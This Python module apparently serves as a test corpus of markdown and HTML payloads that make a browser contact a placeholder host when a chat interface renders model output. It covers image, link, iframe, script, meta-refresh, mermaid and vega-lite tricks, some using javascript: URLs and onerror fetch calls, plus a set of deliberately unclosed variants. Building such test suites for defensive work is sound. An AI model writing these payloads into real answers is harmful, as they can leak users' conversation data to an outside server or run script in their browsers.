"""What a model may write to make a browser call somewhere, and what it tries. ``{at}`` is the place it calls."""

from __future__ import annotations

__all__ = ["PAYLOADS", "UNENDED"]

PAYLOADS: dict[str, str] = {
    "image": "![a](http://{at}/image)",
    "image with a title": '![a](http://{at}/titled "t")',
    "image in angle brackets": "![a](<http://{at}/angled>)",
    "image without a scheme": "![a](//{at}/relative)",
    "image of another scheme": "![a](https://{at}/tls)",
    "image with a backslash": "![a](http:\\\\{at}/backslash)",
    "image by reference": "![a][ref]\n\n[ref]: http://{at}/reference",
    "image by collapsed reference": "![ref2][]\n\n[ref2]: <http://{at}/collapsed>",
    "image by shortcut": "![ref3]\n\n[ref3]: http://{at}/shortcut",
    "image with entities": "![a](&#104;ttp://{at}/entities)",
    "image in a link": "[![a](http://{at}/nested)](http://{at}/around)",
    "image in a table": "| a |\n|---|\n| ![a](http://{at}/table) |",
    "image in a quotation": "> ![a](http://{at}/quotation)",
    "image in a list": "- one\n  - ![a](http://{at}/list)",
    "image in a heading": "# ![a](http://{at}/heading)",
    "image in emphasis": "***![a](http://{at}/emphasis)***",
    "image in a footnote": "x[^1]\n\n[^1]: ![a](http://{at}/footnote)",
    "image over lines": "![a\nb](\nhttp://{at}/lines\n)",
    "image of data with script": "![a](data:image/svg+xml,%3Csvg%20onload=%22fetch('http://{at}/svg')%22/%3E)",
    "link": "[a](http://{at}/link)",
    "link of script": "[a](javascript:fetch('http://{at}/script'))",
    "link of data": "[a](data:text/html,<img src=http://{at}/data>)",
    "link to a page": "[a](/engine)",
    "bare address": "http://{at}/bare",
    "bare www": "www.{at}/www",
    "mail": "me@{at} <me@example.test>",
    "autolink": "<http://{at}/autolink>",
    "html image": '<img src="http://{at}/html">',
    "html image set": '<img srcset="http://{at}/set 1x" src=x onerror="fetch(\'http://{at}/error\')">',
    "html picture": '<picture><source srcset="//{at}/source"><img src="x"></picture>',
    "html style": '<style>@import url("http://{at}/import");</style>',
    "html inline style": '<p style="background:url(http://{at}/background)">x</p>',
    "html sheet": '<link rel="stylesheet" href="http://{at}/sheet">',
    "html prefetch": '<link rel="dns-prefetch" href="//{at}"><link rel="preconnect" href="//{at}">',
    "html script": '<script src="http://{at}/js"></script>',
    "html frame": '<iframe src="http://{at}/frame" srcdoc="<img src=//{at}/doc>"></iframe>',
    "html object": '<object data="http://{at}/object"></object><embed src="http://{at}/embed">',
    "html media": '<video poster="http://{at}/poster" src="http://{at}/video" autoplay></video>',
    "html svg": '<svg><image href="http://{at}/svgimage"/><use href="http://{at}/use#x"/></svg>',
    "html form": '<form action="http://{at}/form"><button>x</button></form>',
    "html refresh": '<meta http-equiv="refresh" content="0;url=http://{at}/refresh">',
    "html base": '<base href="http://{at}/">',
    "formula link": "$\\href{{http://{at}/formula}}{{x}}$ $\\url{{//{at}/url}}$",
    "formula image": "$$\\includegraphics{{http://{at}/graphic}}$$",
    "formula style": "$\\htmlStyle{{background:url(//{at}/htmlstyle)}}{{x}}$",
    "directive": ":red[![a](http://{at}/directive)] :blue-background[[a](http://{at}/b)]",
    "icon and shortcode": ":material/open_in_new: :streamlit: :smile: :red-badge[http://{at}/badge]",
    "indented code": "    ![a](http://{at}/indented)",
    "code": "```html\n<img src=http://{at}/code>\n```",
    "code span": "`![a](http://{at}/span)`",
    "diagram": '```mermaid\nflowchart LR\nA@{{ img: "http://{at}/diagram.png", w: 60, h: 60 }}\n```',
    "diagram in a quotation": '> ```mermaid\n> flowchart LR\n> A@{{ img: "//{at}/quoted.png", w: 60, h: 60 }}\n> ```',
    "diagram in a list": "- ```mermaid\n  flowchart LR\n  A-->B\n  style A fill:url(//{at}/fill)\n"
    '  click A href "//{at}/click"\n  ```',
    "diagram by entity": '> ```&#109;ermaid\n> flowchart LR\n> A@{{ img: "//{at}/entity.png" }}\n> ```',
    "chart": '```vega-lite\n{{"data": {{"url": "http://{at}/data.json"}}, "mark": "bar"}}\n```',
}
"""Each ends by itself: all can stand in one text, a blank line between them."""

UNENDED: tuple[str, ...] = (
    "a ![x](http://{at}/open",
    "a <img src=http://{at}/opentag",
    '```mermaid\nflowchart LR\nA@{{ img: "//{at}/openfence.png" }}',
    '> ~~~ mermaid\n> flowchart LR\n> A@{{ img: "//{at}/opentilde.png" }}',
)
"""Half of something, as it stands while an answer is being written; and some that stay so."""
